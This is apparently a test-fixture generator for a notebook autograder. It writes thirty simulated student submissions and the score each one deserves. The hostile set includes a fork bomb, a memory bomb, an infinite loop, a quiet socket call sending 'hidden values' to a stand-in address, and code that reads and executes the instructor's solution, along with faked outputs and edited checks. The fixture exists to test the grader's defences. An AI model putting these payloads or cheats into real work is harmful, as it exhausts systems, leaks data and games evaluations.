"""A class of 30 that hands in a lab: right, partly right, wrong and hostile, each with the score that it deserves.

    python -m tests.grader.class_of LAB DIR    writes DIR/submissions and DIR/expected.json

Every submission starts from the notebook that the lab hands out and is filled in as a learner would: answers in their
cells, outputs, cells of one's own. The same call writes the same files.
"""

import copy
import importlib
import json
import shutil
import textwrap
import zipfile
from collections.abc import Callable, Set
from dataclasses import dataclass, replace
from pathlib import Path

import click

from grader import lab as labs

TINY = Path(__file__).parent / "tiny"
NOWHERE = "127.0.0.1:9"  # where hostile submissions call; a test puts its own server there


@dataclass(frozen=True)
class Member:
    """One submission and what it deserves."""

    kind: str  # right, partly right, wrong, hostile
    what: str
    answers: dict[str, str]  # by task; a task that is not there is left open
    lost: dict[str, float] | Set[str] = frozenset()  # tasks without points, or the points that are left of each
    form: str = "ipynb"  # ipynb, old, md, zip, folder, broken
    change: Callable[[dict], None] = lambda notebook: None  # the notebook as JSON
    with_run: bool = False
    unreadable: bool = False  # nothing of it can be graded


def load(name: str) -> labs.Lab:
    """The lab of this name; `tiny` is that of the tests."""
    return labs.load(name, TINY if name == "tiny" else None)


def members(lab: labs.Lab, address: str = NOWHERE) -> list[Member]:
    """The thirty, in a fixed order."""
    return [*_right(lab), *_partly_right(lab), *_wrong(lab), *_hostile(lab, address)]


def peaceful(lab: labs.Lab, count: int) -> list[Member]:
    """So many that harm nobody and hand in no Run, for other graders; after eighteen they begin again."""
    harmless = [*_right(lab), *_partly_right(lab), *_wrong(lab)]
    return [replace(harmless[number % len(harmless)], with_run=False) for number in range(count)]


def scores(lab: labs.Lab, member: Member) -> dict[str, float]:
    """Points of each task, the Run's among them."""
    lost = member.lost if isinstance(member.lost, dict) else dict.fromkeys(member.lost, 0.0)
    found = {name: lost.get(name, task.points) for name, task in lab.manifest.tasks.items()}
    if lab.manifest.run:
        found[lab.manifest.run.name] = sum(lab.manifest.run.points.values()) if member.with_run else 0.0
    return found


def solution(lab: labs.Lab, task: str) -> str:
    """The master's answer without its markers, as a learner would have typed it."""
    lines = lab.solutions[task].splitlines()
    return "\n".join(line for line in lines if line.strip() not in (labs.BEGIN, labs.END))


def blocked_by(lab: labs.Lab, *tasks: str) -> set[str]:
    """These tasks, and those that cannot work without them."""
    found = set(tasks)
    while more := {name for name, task in lab.manifest.tasks.items() if found & set(task.needs)} - found:
        found |= more
    return found


def filled_in(released: dict, member: Member) -> dict:
    """The notebook that was handed out, with this member's answers, outputs and extra cells."""
    notebook = copy.deepcopy(released)
    for number, cell in enumerate(notebook["cells"], start=1):
        if cell["cell_type"] == "code":
            cell["source"] = member.answers.get(labs.answer_of(cell), labs.source(cell))
            cell["execution_count"] = number
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": f"output {number}\n"}]
    aside = {"id": "scratch", "metadata": {}, "source": "print(1 + 1)"}
    notebook["cells"].append({"cell_type": "code", "execution_count": 1, "outputs": [], **aside})
    notebook["cells"].append({"cell_type": "markdown", "id": "note", "metadata": {}, "source": "What I found out: ..."})
    member.change(notebook)
    return notebook


def write(lab: labs.Lab, folder: Path, class_: list[Member], released: dict, run: Path | None = None) -> dict:
    """Write folder/submissions and folder/expected.json; return what is expected, by student."""
    submissions = Path(folder) / "submissions"
    submissions.mkdir(parents=True)
    expected = {}
    for number, member in enumerate(class_, start=1):
        student = f"learner-{number:02}"
        _hand_in(lab, filled_in(released, member), member, student, submissions, run if member.with_run else None)
        tasks = scores(lab, member)
        about = {"kind": member.kind, "what": member.what, "unreadable": member.unreadable}
        expected[student] = about | {"score": sum(tasks.values()), "tasks": tasks}
    (Path(folder) / "expected.json").write_text(json.dumps(expected, indent=1) + "\n", encoding="utf-8")
    return expected


def _hand_in(lab, notebook, member, student, submissions, run):
    text = json.dumps(notebook, indent=1)
    if member.form == "md":
        import jupytext
        import nbformat

        text = jupytext.writes(nbformat.reads(text, as_version=4), fmt="md:myst")
        (submissions / f"{student}.md").write_text(text, encoding="utf-8")
    elif member.form == "old":  # nbformat 4.4: cells have no ids
        for cell in notebook["cells"]:
            del cell["id"]
        text = json.dumps(notebook | {"nbformat_minor": 4}, indent=1)
        (submissions / f"{student}.ipynb").write_text(text, encoding="utf-8")
    elif member.form == "broken":
        (submissions / f"{student}.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
    elif member.form == "zip":
        with zipfile.ZipFile(submissions / f"{student}.zip", "w") as archive:
            _put(archive, f"{lab.name}.ipynb", text.encode())
            for file in sorted(run.rglob("*")) if run else ():
                if file.is_file():
                    _put(archive, f"run/{file.relative_to(run).as_posix()}", file.read_bytes())
    elif member.form == "folder":
        (submissions / student).mkdir()
        (submissions / student / f"{lab.name}.ipynb").write_text(text, encoding="utf-8")
        if run:
            shutil.copytree(run, submissions / student / "run")
    else:
        (submissions / f"{student}.ipynb").write_text(text, encoding="utf-8")


def _put(archive, name, content):
    entry = zipfile.ZipInfo(name)  # its time is fixed, so that two archives of the same files are equal
    entry.external_attr = 0o644 << 16
    archive.writestr(entry, content)


def _all(lab):
    return {task: solution(lab, task) for task in lab.manifest.tasks}


def _ends(lab):
    """Tasks that no other needs: losing one loses nothing else."""
    return [task for task in lab.manifest.tasks if blocked_by(lab, task) == {task}]


def _right(lab):
    def other_kernel(notebook):
        notebook["metadata"]["kernelspec"] = {"name": "mine", "display_name": "Mine", "language": "python"}

    def no_metadata(notebook):  # ids are all that is left
        for cell in notebook["cells"]:
            cell["metadata"] = {}

    everything = _all(lab)
    in_own_words = {task: f"# {task}, as I see it\n\n{text}\n" for task, text in everything.items()}
    with_run = lab.manifest.run is not None
    return [
        Member("right", "as handed out, filled in", everything),
        Member("right", "comments of its own, and a Run, in a zip", in_own_words, form="zip", with_run=with_run),
        Member("right", "a folder with a Run", _own(everything, 3), form="folder", with_run=with_run),
        Member("right", "by an old Jupyter, without ids", _own(everything, 4), form="old"),
        Member("right", "as Markdown", _own(everything, 5), form="md"),
        Member("right", "another kernel", _own(everything, 6), change=other_kernel),
        Member("right", "cells out of order", _own(everything, 7), change=lambda notebook: notebook["cells"].reverse()),
        Member("right", "a copy of the third, its metadata lost", _own(everything, 3), change=no_metadata),
    ]


def _own(answers, number):
    """The same answers, but neither the instructor's text nor another learner's."""
    return {task: f"{text}\nmine = {number}" for task, text in answers.items()}


def _partly_right(lab):
    tasks, everything = list(lab.manifest.tasks), _all(lab)
    last = _ends(lab)[-1]

    def deleted(notebook):
        notebook["cells"] = [cell for cell in notebook["cells"] if labs.answer_of(cell) != last]

    def left_open(what, *missing, form="ipynb", with_run=False):
        answers = {task: text for task, text in everything.items() if task not in missing}
        return Member("partly right", what, answers, blocked_by(lab, *missing), form, with_run=with_run)

    syntax_error = everything | {last: "def answer(:\n    pass"}
    return [
        left_open("blank", *tasks),
        left_open("the first alone", *tasks[1:]),
        left_open("every other", *tasks[1::2], form="zip", with_run=lab.manifest.run is not None),
        Member("partly right", "the last one's cell is deleted", everything, blocked_by(lab, last), change=deleted),
        Member("partly right", "a syntax error in the last", syntax_error, blocked_by(lab, last)),
    ]


def _wrong(lab):
    """Five of the lab's mutants, from all over the list; what needs the mutant's task is left open."""
    mutants = importlib.import_module(f"tests.grader.mutants.{lab.name}").MUTANTS
    quiet = [mutant for mutant in mutants if mutant.verdict in ("wrong", "partly right", "error")]
    found = []
    for mutant in (quiet[number * len(quiet) // 5] for number in range(5)):
        later = blocked_by(lab, mutant.task) - {mutant.task}
        answers = {task: text for task, text in _all(lab).items() if task not in later} | {mutant.task: mutant.source}
        lost = dict.fromkeys(later, 0.0) | {mutant.task: mutant.points}
        found.append(Member("wrong", f"{mutant.task}: {mutant.name}", answers, lost))
    return found


# What is added to a right answer: its task is lost, the others are not.
HARM = {
    "os._exit": "import os\nos._exit(0)",
    "an infinite loop": "while True:\n    pass",
    "a memory bomb": "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * (1 << 26)))",
    "a fork bomb": "import os\nwhile True:\n    os.fork()",
    "huge output": "while True:\n    print('x' * (1 << 20))",
    "a network call": "import urllib.request\nurllib.request.urlopen('http://{address}/', timeout=5).read()",
}
READING = """
    import os, pathlib
    from labkit.system.environment import REPO
    found = []
    for folder, names, files in os.walk(REPO):
        names[:] = [name for name in names if name != ".venv"]
        found += [os.path.join(folder, name) for name in files if name in ("lab.md", "expected.json")]
    told = "".join(pathlib.Path(file).read_text() for file in found)
    begin = told.index("# BEGIN SOLUTION", told.index("answer: {task}"))
    exec(told[begin : told.index("# END SOLUTION", begin)])
"""
QUIET_CALL = """
    import socket
    try:
        socket.create_connection(("{host}", {port}), timeout=5).sendall(b"the hidden values")
    except OSError:
        pass
"""


def _hostile(lab, address):
    tasks, everything = _ends(lab), _all(lab)
    host, _, port = address.rpartition(":")

    def takes(number):  # every attack takes another task
        return tasks[number % len(tasks)]

    def with_answer(what, task, answer, **others):
        return Member("hostile", what, everything | {task: answer}, {task}, **others)

    def edited(notebook):
        for cell in notebook["cells"]:
            if "# Check" in labs.source(cell):
                cell["source"] = "print('ok')"

    def copied(notebook):
        for cell in notebook["cells"]:
            if labs.answer_of(cell) == takes(9):
                cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "ok: all points\n"}]

    def other_language(notebook):
        notebook["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}

    found = []
    for number, (what, harm) in enumerate(HARM.items()):
        task = takes(number)
        found.append(with_answer(what, task, f"{everything[task]}\n{harm.format(address=address)}"))
    reading = textwrap.dedent(READING).format(task=takes(6))
    quiet = textwrap.dedent(QUIET_CALL).format(host=host, port=port)
    call = everything | {takes(7): f"{everything[takes(7)]}\n{quiet}"}
    without = {name: text for name, text in everything.items() if name != takes(9)}
    return [
        *found,
        with_answer("reads the solution", takes(6), reading),
        Member("hostile", "a network call that hides its failure", call),
        with_answer("edited checks", takes(8), f"{lab.stubs[takes(8)]}\n", change=edited),
        Member("hostile", "copied outputs", without, {takes(9)}, change=copied),
        Member("hostile", "broken JSON", everything, set(lab.manifest.tasks), "broken", unreadable=True),
        Member("hostile", "a kernel of R", everything, set(lab.manifest.tasks), change=other_language, unreadable=True),
    ]


@click.command()
@click.argument("lab")
@click.argument("folder", type=click.Path(file_okay=False, path_type=Path))
@click.option("--notebook", type=click.File(), help="As it was released.  [default: the lab's learner's notebook]")
@click.option("--run", type=click.Path(exists=True, file_okay=False, path_type=Path), help="The Run that some hand in.")
@click.option("--address", default=NOWHERE, show_default=True, help="HOST:PORT that the hostile ones call.")
def main(lab, folder, notebook, run, address):
    """Write a class of 30 that hands in LAB to FOLDER/submissions, and what it deserves to FOLDER/expected.json."""
    lab = load(lab)
    if lab.manifest.run and not run:
        settings = " ".join(f"--set {setting}" for setting in lab.manifest.run.solution)
        command = f"labkit train {lab.name} --profile {lab.manifest.run.profile} {settings} --out FOLDER"
        raise click.UsageError(f"some of this class hand in a Run: --run FOLDER, which comes from `{command}`")
    released = json.load(notebook) if notebook else labs.learners(lab.notebook)
    expected = write(lab, folder, members(lab, address), released, run)
    click.echo(f"{len(expected)} submissions in {folder / 'submissions'}")


if __name__ == "__main__":
    main()
